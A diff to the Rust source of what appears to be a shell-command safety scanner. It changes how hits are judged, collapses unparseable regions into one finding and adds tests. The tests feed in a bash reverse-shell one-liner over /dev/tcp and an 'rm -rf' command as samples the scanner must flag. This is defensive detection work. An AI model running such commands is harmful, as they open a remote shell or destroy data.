@@ -91,7 +91,13 @@ impl<'a> Judge<'a> {
                     let Some(rule) = self.by_id.get(&*c.rule).copied() else {
                         continue;
                     };
-                    if not_applicable.contains(&&*rule.id) {
+                    // A rule that holds only for what a value may be at run time
+                    // (`cat "$f"` may read a secret, `echo x > "$out"` may write a disk
+                    // device) is the hook's caution about a one-off command a person
+                    // approves. A repository's scripts take nearly every value at run
+                    // time; a scan reports what the file itself says (`rm -rf "$dir"` is
+                    // still `filesystem.recursive-delete`), as for make variables.
+                    if c.possibly || not_applicable.contains(&&*rule.id) {
                         set_aside = true;
                         continue;
                     }
@@ -122,12 +128,33 @@ impl<'a> Judge<'a> {
                     });
                 }
             }
-            for f in &explanation.findings {
+            // A region the parser gave up on is one finding, wherever in it the walk
+            // met constructs it could not read (one per line of the region otherwise).
+            let parse_error = |f: &&mstro_engine::shell::Finding| f.kind == FindingKind::ParseError;
+            let regions: Vec<Span> = explanation
+                .findings
+                .iter()
+                .filter(parse_error)
+                .map(|f| f.span)
+                .collect();
+            let inside_another = |f: &mstro_engine::shell::Finding| {
+                f.kind == FindingKind::ParseError
+                    && regions
+                        .iter()
+                        .any(|r| *r != f.span && r.start <= f.span.start && f.span.end <= r.end)
+            };
+            for f in explanation.findings.iter().filter(|f| !inside_another(f)) {
                 let severity = finding_severity(f.kind);
                 let id = f.kind.rule_id();
                 self.note_rule(id, f.kind.reason(), Verdict::Review, severity, None);
+                // A region that starts with comments is reported where its code starts.
+                let span = if f.kind == FindingKind::ParseError {
+                    past_comments(command, f.span)
+                } else {
+                    f.span
+                };
                 raw.push(Hit {
-                    span: f.span,
+                    span,
                     verdict: Verdict::Review,
                     severity,
                     rule_ids: vec![id.to_owned()],
@@ -194,6 +221,25 @@ fn finding_severity(kind: FindingKind) -> Severity {
         FindingKind::Confusable | FindingKind::CodeFromPipe => Severity::High,
         _ => Severity::Medium,
     }
+}
+
+/// `span` without the blank and comment lines it starts with (when anything is left).
+fn past_comments(command: &str, span: Span) -> Span {
+    let Some(text) = command.get(span.start..span.end.min(command.len())) else {
+        return span;
+    };
+    let mut skip = 0;
+    for line in text.split_inclusive('\n') {
+        let code = line.trim_start();
+        if !(code.is_empty() || code.starts_with('#')) || !line.ends_with('\n') {
+            break;
+        }
+        skip += line.len();
+    }
+    if skip >= text.len() {
+        return span;
+    }
+    Span::new(span.start + skip, span.end)
 }
 
 /// One hit per line: the strongest verdict there, its most severe hit explaining, and
@@ -268,6 +314,30 @@ mod tests {
         assert_eq!(starts, vec![7, 24], "{got:?}");
         assert!(got.iter().all(|(_, v, _)| *v == Verdict::Deny), "{got:?}");
         assert_eq!(got[0].2[0], "filesystem.rm-root-or-home");
+    }
+
+    #[test]
+    fn what_only_a_run_time_value_may_make_dangerous_is_not_a_hit() {
+        assert!(hits("cat \"$f\"\n").is_empty());
+        let got = hits("rm -rf \"$dir\"\nbash -i >& /dev/tcp/$host/4444 0>&1\n");
+        let rules: Vec<&str> = got.iter().map(|(_, _, r)| r[0].as_str()).collect();
+        assert_eq!(
+            rules,
+            ["filesystem.recursive-delete", "network.reverse-shell"],
+            "{got:?}"
+        );
+    }
+
+    #[test]
+    fn a_region_the_parser_gave_up_on_is_one_hit() {
+        // zsh's `${(f)...}` and `(( ... ))` forms inside one broken region.
+        let script = "# a comment\nfor x in ${(f)\"$(ls)\"}; do\n  # another\n  echo $x\n  y=${x:l}\ndone }\n";
+        let got = hits(script);
+        let parse: Vec<_> = got
+            .iter()
+            .filter(|(_, _, r)| r[0] == "shell.parse-error")
+            .collect();
+        assert!(parse.len() <= 1, "{got:?}");
     }
 
     #[test]
